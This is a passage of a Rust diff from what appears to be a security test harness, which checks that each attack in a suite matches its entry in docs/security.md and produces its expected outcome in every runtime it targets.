+        match docs.get(a.id) {
+            None => failures.push(format!("{}: not in docs/security.md", a.id)),
+            Some((runtimes, outcome)) => {
+                if *runtimes != langs.join(", ") {
+                    failures.push(format!(
+                        "{}: docs say runtimes `{runtimes}`, the suite runs `{}`",
+                        a.id,
+                        langs.join(", ")
+                    ));
+                }
+                if outcome != a.expect {
+                    failures.push(format!(
+                        "{}: docs say `{outcome}`, the suite expects `{}`",
+                        a.id, a.expect
+                    ));
+                }
+            }
+        }
+        for &lang in a.langs {
+            let got = (a.run)(&ctx, lang);
+            if got != a.expect {
+                failures.push(format!(
+                    "{} in {}: expected `{}`, got `{got}`",
+                    a.id,
+                    lang.name(),
+                    a.expect
+                ));
+            }
+        }
+    }
+    for id in docs.keys() {
+        if !attacks.iter().any(|a| a.id == id) {
+            failures.push(format!("{id}: documented but not in the suite"));
+        }
+    }
+    assert!(attacks.len() >= 40);
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
